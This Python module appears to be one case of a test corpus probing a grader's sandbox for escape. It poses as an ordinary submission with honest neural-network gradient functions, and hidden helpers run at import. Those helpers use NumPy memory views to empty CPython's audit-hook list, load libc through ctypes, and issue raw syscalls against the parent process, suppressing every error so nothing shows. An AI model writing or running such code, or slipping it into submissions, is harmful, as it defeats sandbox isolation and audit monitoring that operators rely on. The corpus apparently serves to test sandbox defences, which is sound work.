"""probe_b corpus, case esc07_cross_process (escape), module compgraph.py.

Cross-process syscalls the documentation does not name, on the parent, after emptying the audit hook list: ioprio_set to its current I/O priority (251/252), get_robust_list (274), move_pages with no pages (279), kcmp (312).

Blind probe of the grader's sandbox, written from the user documentation only
(tests/blind/probes_b/README.md). Every attack step is wrapped so that a refusal
leaves the honest functions as they are.
"""
import os as _pb_os
import sys as _pb_sys

import numpy as np

_PB_CASE = 'esc07_cross_process'
_PB_DIR = _pb_os.path.dirname(_pb_os.path.abspath(__file__))
_PB_KEEP = []  # descriptors, threads and buffers kept alive for the life of the worker


# ---------------------------------------------------------------- probe_b helpers
def _pb_quiet(fn, *args, **kwargs):
    """Run one attack step; a refusal (of whatever exception class) or any error is swallowed."""
    try:
        return fn(*args, **kwargs)
    except BaseException as exc:  # noqa: BLE001 - the point is to swallow the refusal
        return exc


def _pb_once(tag):
    """True the first time in this submission: a marker file in the worker's own folder keeps a
    step that may kill the worker from being repeated by every fresh worker."""
    path = _pb_os.path.join(_PB_DIR, 'probe_b_once_' + tag)
    try:
        fd = _pb_os.open(path, _pb_os.O_WRONLY | _pb_os.O_CREAT | _pb_os.O_EXCL, 0o600)
    except FileExistsError:
        return False
    except BaseException:
        return True
    _pb_os.close(fd)
    return True


def _pb_breach(what):
    """The attack got through where the documentation says it cannot. Leave at once with exit
    code 86: a worker that exits by itself is no status this corpus's expectations accept."""
    try:
        _pb_os.write(2, ('probe_b %s BREACH: %s\n' % (_PB_CASE, what)).encode('utf-8', 'replace'))
    except BaseException:
        pass
    _pb_os._exit(86)


def _pb_tmp_ok(path):
    """True for a path under /tmp, /var/tmp or /dev/shm: the only places outside its own folder
    this corpus ever writes to or changes, even if every defence failed."""
    try:
        real = _pb_os.path.realpath(path)
    except BaseException:
        return False
    return any(real == d or real.startswith(d + '/') for d in ('/tmp', '/var/tmp', '/dev/shm'))


def _pb_read(path, n=1 << 20):
    with open(path, 'rb') as fh:
        return fh.read(n)


# ---------------------------------------------------------------- probe_b hook silencer
# The documentation says the audit hook lives in the worker's own process. Python keeps the
# hooks added by sys.addaudithook in a list that only the interpreter state points to. NumPy
# can view any address (an object exposing __array_interface__), which raises no audit event,
# so this finds the main interpreter inside _PyRuntime (the small ints live there in 3.11+),
# checks two of its fields against objects it knows, and empties that list.
# Offsets (CPython 3.11/3.12/3.13, x86_64, default build) come from the headers:
# offsetof small_ints in _PyRuntimeState, of _main_interpreter, then of audit_hooks, sysdict
# and builtins in PyInterpreterState.
_PB_OFF = {(3, 11): (680, 58936, 3552, 904, 912),
           (3, 12): (3112, 76392, 267208, 352, 360),
           (3, 13): (13840, 88352, 10808, 7640, 7648)}


class _PbIface(object):
    pass


def _pb_mem(addr, n=1, typestr='<u8'):
    view = _PbIface()
    view.__array_interface__ = {'shape': (n,), 'typestr': typestr, 'data': (addr, False), 'version': 3}
    return np.asarray(view)


def _pb_silence():
    """Empty the interpreter's list of Python audit hooks. Returns a word saying what happened."""
    import builtins
    try:
        off = _PB_OFF.get(tuple(_pb_sys.version_info[:2]))
        if off is None or _pb_sys.maxsize != 2 ** 63 - 1 or _pb_sys.byteorder != 'little':
            return 'unsupported'
        import sysconfig
        if sysconfig.get_config_var('Py_GIL_DISABLED') or sysconfig.get_config_var('Py_TRACE_REFS'):
            return 'unsupported build'
        small_ints, main_interp, audit_hooks, sysdict, builtins_dict = off
        interp = id(-5) - small_ints + main_interp
        q = lambda a: int(_pb_mem(a)[0])
        if q(interp + sysdict) != id(_pb_sys.__dict__) or q(interp + builtins_dict) != id(builtins.__dict__):
            return 'layout mismatch'
        hooks = q(interp + audit_hooks)
        if hooks == 0:
            return 'no hooks'
        if q(hooks + 8) != id(list):
            return 'not a list'
        _pb_mem(hooks + 16)[0] = 0  # ob_size = 0: the list looks empty; its items stay alive
        return 'silenced'
    except BaseException as exc:
        return 'error %r' % (exc,)


# ---------------------------------------------------------------- probe_b native
_PB_LIBC = []


def _pb_libc():
    """ctypes and libc (the documentation says loading a native library through ctypes is
    refused at the Python level)."""
    if not _PB_LIBC:
        import ctypes
        libc = ctypes.CDLL('libc.so.6', use_errno=True)
        libc.syscall.restype = ctypes.c_long
        _PB_LIBC.append((ctypes, libc))
    return _PB_LIBC[0]


def _pb_syscall(nr, *args):
    """Raw syscall(nr, ...) through libc; returns (result, errno)."""
    ctypes, libc = _pb_libc()
    conv = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    ctypes.set_errno(0)
    res = libc.syscall(ctypes.c_long(nr), *conv)
    return res, ctypes.get_errno()


# === probe_b honest begin ===
def sigmoid(z):
    """Logistic function 1 / (1 + exp(-z)), elementwise, without overflow. Given: use it."""
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def forward(x, W, v):
    x = np.asarray(x, dtype=float).reshape(2)
    W = np.asarray(W, dtype=float).reshape(3, 3)
    v = np.asarray(v, dtype=float).reshape(4)
    xb = np.array([1.0, x[0], x[1]])
    f = sigmoid(W @ xb)
    fb = np.concatenate(([1.0], f))
    y_hat = float(v @ fb)
    return y_hat, (xb, f, fb, v.copy(), y_hat)


def loss(y_hat, y):
    return float((float(y_hat) - float(y)) ** 2)


def backward(y, cache):
    xb, f, fb, v, y_hat = cache
    d = 2.0 * (y_hat - float(y))
    dv = d * fb
    dz = d * v[1:] * f * (1.0 - f)
    return np.outer(dz, xb), dv


def batch_gradients(X, Y, W, v):
    X = np.asarray(X, dtype=float).reshape(-1, 2)
    Y = np.asarray(Y, dtype=float).reshape(-1)
    dW = np.zeros((3, 3))
    dv = np.zeros(4)
    for x, y in zip(X, Y):
        _, cache = forward(x, W, v)
        gW, gv = backward(y, cache)
        dW += gW
        dv += gv
    return dW, dv


def sigmoid_output_grad_v(X, Y, W, v):
    X = np.asarray(X, dtype=float).reshape(-1, 2)
    Y = np.asarray(Y, dtype=float).reshape(-1)
    W = np.asarray(W, dtype=float).reshape(3, 3)
    v = np.asarray(v, dtype=float).reshape(4)
    dv = np.zeros(4)
    for x, y in zip(X, Y):
        fb = np.concatenate(([1.0], sigmoid(W @ np.array([1.0, x[0], x[1]]))))
        y_hat = float(sigmoid(v @ fb))
        dv += (y_hat - y) * y_hat * (1.0 - y_hat) * fb
    return dv
# === probe_b honest end ===


# ---------------------------------------------------------------- the attack
def _pb_attack():
    _pb_silence()
    if not _pb_once('esc07'):
        return
    ctypes, libc = _pb_libc()
    ppid = _pb_os.getppid()
    prio, _ = _pb_syscall(252, 1, ppid)            # ioprio_get(IOPRIO_WHO_PROCESS, ppid)
    if prio >= 0:
        r, _ = _pb_syscall(251, 1, ppid, prio)     # ioprio_set to the same value: harmless if it works
        if r == 0:
            _pb_breach('ioprio_set on process %d' % ppid)
    head, size = ctypes.c_void_p(), ctypes.c_size_t()
    r, _ = _pb_syscall(274, ppid, ctypes.byref(head), ctypes.byref(size))
    if r == 0:
        _pb_breach('get_robust_list read process %d' % ppid)
    r, _ = _pb_syscall(279, ppid, 0, None, None, None, 0)
    if r == 0:
        _pb_breach('move_pages reached process %d' % ppid)
    _pb_syscall(312, ppid, _pb_os.getpid(), 0, 0, 0)  # kcmp(KCMP_FILE): an answer tells little


_pb_quiet(_pb_attack)  # probe_b: attack
